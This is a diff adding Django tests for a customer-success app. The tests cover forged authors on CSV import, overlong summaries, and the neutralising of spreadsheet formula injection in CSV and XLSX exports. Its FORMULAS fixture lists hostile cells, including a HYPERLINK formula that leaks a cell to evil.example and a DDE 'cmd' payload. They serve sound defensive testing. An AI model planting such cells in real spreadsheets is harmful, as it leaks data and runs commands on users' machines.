@@ -313,3 +313,103 @@ def test_a_later_row_for_the_same_account_wins_as_in_the_command(csm):
     assert not result.has_validation_errors(), errors_of(result)
     gree = Account.objects.get(external_id="gree")
     assert (gree.name, gree.headcount, gree.stage) == ("Gree Electric", 200, "adopting")
+
+
+# --- hostile cells (issue #15): forged people on import, formulas on export ---
+
+VISIT_HEADER = "account,visited_on,visit_type,author,purpose,summary,sentiment"
+
+
+def test_a_visit_import_cannot_name_another_author(csm, coo, own):
+    lead = factories.person("lead", "manufacturing", username="lead_m")
+    account = own.account.external_id
+    for author in (coo.username, lead.username):
+        text = f"{VISIT_HEADER}\n{account},2024-01-02,executive,{author},QBR,,positive\n"
+        result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
+        assert errors_of(result) == [
+            "line 2: author: must be you (csm_m): a CSM or lead imports only visits they made"
+        ]
+    assert not Visit.objects.filter(visited_on=dt.date(2024, 1, 2)).exists()
+    text = f"{VISIT_HEADER}\n{account},2024-01-02,executive,csm_m,QBR,,positive\n"
+    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
+    assert not result.has_validation_errors(), errors_of(result)
+
+
+def test_the_coo_imports_old_visits_of_anyone_they_may_name(csm, coo, own):
+    text = f"{VISIT_HEADER}\n{own.account.external_id},2024-01-02,check_in,csm_m,,,\n"
+    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=coo)
+    assert not result.has_validation_errors(), errors_of(result)
+    assert Visit.objects.get(visited_on=dt.date(2024, 1, 2)).author == csm
+
+
+def test_people_columns_accept_only_people_the_importer_may_name(csm, own, other):
+    account = own.account.external_id
+    header = "account,title,description,category,priority,status,owner,raised_at,first_response_at,resolved_at"
+    text = f"{header}\n{account},Stranger,,feature,,,csm_r,2024-01-02 10:00,,\n"
+    result = RequirementResource().import_data(csv_dataset(text), dry_run=False, user=csm)
+    assert errors_of(result) == ["line 2: owner: unknown user 'csm_r'"]
+    text = f"{ACCOUNT_HEADER}\nnewco,NewCo,,manufacturing,,,,csm_r\n"
+    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
+    assert errors_of(result) == ["line 2: csm: unknown user 'csm_r'"]
+
+
+def test_a_summary_over_the_limit_is_refused_by_the_import_and_the_admin_form(client, csm, own):
+    account = own.account.external_id
+    text = f"{VISIT_HEADER}\n{account},2024-01-02,,csm_m,,{'x' * 10_001},\n"
+    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
+    assert errors_of(result) == ["line 2: summary: longer than 10000 characters"]
+    client.force_login(csm)
+    response = client.post(
+        reverse("admin:visits_visit_add"),
+        {
+            "account": own.account.pk,
+            "visited_on": "2024-01-02",
+            "visit_type": "check_in",
+            "author": csm.pk,
+            "sentiment": "neutral",
+            "summary": "x" * 10_001,
+        },
+    )
+    assert response.status_code == 200
+    assert "at most 10000 characters" in str(response.context["adminform"].form.errors["summary"])
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _export(client, model: str, label: str) -> bytes:
+    url = reverse(f"admin:visits_{model}_export")
+    form = client.get(url).context["form"]
+    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
+    data["format"] = next(value for value, text in form.fields["format"].choices if text == label)
+    response = client.post(url, data)
+    assert response.status_code == 200, response.content[:500]
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+@pytest.mark.parametrize("label", ["csv", "xlsx"])
+def test_exports_neutralise_cells_that_spreadsheets_run_as_formulas(client, csm, own, label):
+    for n, title in enumerate(FORMULAS):
+        factories.RequirementFactory(
+            account=own.account, title=title, raised_at=timezone.now() - dt.timedelta(hours=n + 3)
+        )
+    client.force_login(csm)
+    content = _export(client, "requirement", label)
+    if label == "csv":
+        cells = [row[1] for row in csv_dataset(content.decode("utf-8-sig"))]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        rows = list(sheet.iter_rows(min_row=2))
+        assert all(row[1].data_type == "s" for row in rows)
+        # XML reads a carriage return back as a line feed.
+        cells = [row[1].value.replace("\n", "\r") for row in rows]
+    for title in FORMULAS:
+        assert "'" + title in cells, (title, cells)
+    assert own.requirement.title in cells  # ordinary text is left alone
